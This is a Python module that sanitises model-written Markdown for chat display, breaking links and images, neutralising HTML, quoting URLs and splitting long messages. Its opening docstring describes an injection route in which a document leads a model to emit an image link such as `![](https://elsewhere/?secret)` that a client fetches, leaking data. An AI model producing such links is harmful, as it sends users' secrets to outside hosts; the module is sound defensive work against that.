"""Makes Markdown safe to show in a chat, so that it fetches and links nothing. Documents may have shaped the text.

A document can make a model write `![](https://elsewhere/?secret)`, which a client would fetch. Chat services do not say
which escapes they honour. So links and images are broken apart, not escaped.
"""

from __future__ import annotations

import re

_CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.DOTALL)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_REFERENCE = re.compile(r"^([^\S\n]*+\[[^\]\n]*+\]):", re.MULTILINE)
_ADDRESS = re.compile(
    r"(?:(?<![A-Za-z0-9+.-])[A-Za-z0-9+.-]++://|(?<![A-Za-z0-9])www\.)[^\s<>\"'`)，。；！？、（）《》【】]++"
)
_MARKS = str.maketrans("*_`[]<>#|~", "＊＿＇［］＜＞＃｜～")
_NO_CODE = re.compile(r"[^A-Za-z0-9_.:-]")
_BEGINS_BLOCK = re.compile(r"\A(?:[-+=]+|\d+[.)])(?=\s|\Z)")
_MARKED = r"“\g<0>”"
_QUOTED_CHARS = 60
_SENTENCE_END = re.compile(r"(?<=[。！？；.!?;\s])")


def harmless(text: str) -> str:
    """Returns the same Markdown without links, images or HTML. Addresses become code, which nobody can click."""
    text = text.replace("![", "! [").replace("](", "] (")
    text = _REFERENCE.sub(r"\1 :", _TAG.sub("＜", text))
    pieces = _CODE.split(text)
    pieces[::2] = [_ADDRESS.sub(r"`\g<0>`", piece) for piece in pieces[::2]]
    return "".join(pieces)


def literal(text: str) -> str:
    """Returns a title or a name in one line. Its Markdown marks become full-width characters that look alike."""
    line = " ".join(text.split()).translate(_MARKS)
    return _ADDRESS.sub(r"`\g<0>`", line)


def code_span(code: str) -> str:
    """Returns an error's code as Markdown code. People can search the logs for it as it is shown."""
    return f"`{_NO_CODE.sub('', code)}`"


def quoted(question: str) -> str:
    """Returns the first words of a question as a quoted line before its answer.

    Returns an empty text if it has no words.
    """
    words = " ".join("".join(letter if _shown(letter) else " " for letter in question).split())
    if not words:
        return ""
    short = words if len(words) <= _QUOTED_CHARS else f"{words[:_QUOTED_CHARS].rstrip()}…"
    return f"> {literal(_BEGINS_BLOCK.sub(_MARKED, short))}\n\n"


def _shown(letter: str) -> bool:
    """Returns True if the character is shown.

    Invisible ones can reverse the text beside them; one of them joins emoji parts.
    """
    return letter.isprintable() or letter == "\u200d"


def split_markdown(text: str, limit: int) -> list[str]:
    """Returns parts of at most `limit` characters.

    The cut is between paragraphs if possible, otherwise between lines or sentences. If code is cut, each part is
    fenced.
    """
    parts: list[str] = []
    for block in _blocks(text):
        for piece in [block] if len(block) <= limit else _cut(block, limit):
            if parts and len(parts[-1]) + 2 + len(piece) <= limit:
                parts[-1] += f"\n\n{piece}"
            else:
                parts.append(piece)
    return parts


def _blocks(text: str) -> list[str]:
    """Returns the paragraphs. Fenced code is one block, even if it has blank lines."""
    blocks: list[list[str]] = [[]]
    fenced = False
    for line in text.split("\n"):
        if line.startswith("```"):
            if not fenced:
                blocks.append([])
            blocks[-1].append(line)
            if fenced:
                blocks.append([])
            fenced = not fenced
        elif line.strip() or fenced:
            blocks[-1].append(line)
        else:
            blocks.append([])
    return ["\n".join(block) for block in blocks if block]


def _cut(block: str, limit: int) -> list[str]:
    lines = block.split("\n")
    opening = lines.pop(0)[:40] if block.startswith("```") else ""
    if opening and lines and lines[-1].startswith("```"):
        lines.pop()
    room = max(limit - len(opening) - 5, 1) if opening else limit
    pieces: list[str] = []
    for line in (piece for whole in lines for piece in _sentences(whole, room)):
        if pieces and len(pieces[-1]) + 1 + len(line) <= room:
            pieces[-1] += f"\n{line}"
        else:
            pieces.append(line)
    return [f"{opening}\n{piece}\n```" for piece in pieces] if opening else pieces


def _sentences(line: str, room: int) -> list[str]:
    if len(line) <= room:
        return [line]
    pieces = [""]
    for sentence in _SENTENCE_END.split(line):
        for start in range(0, len(sentence), room):
            bit = sentence[start : start + room]
            if len(pieces[-1]) + len(bit) <= room:
                pieces[-1] += bit
            else:
                pieces.append(bit)
    return [piece for piece in pieces if piece]
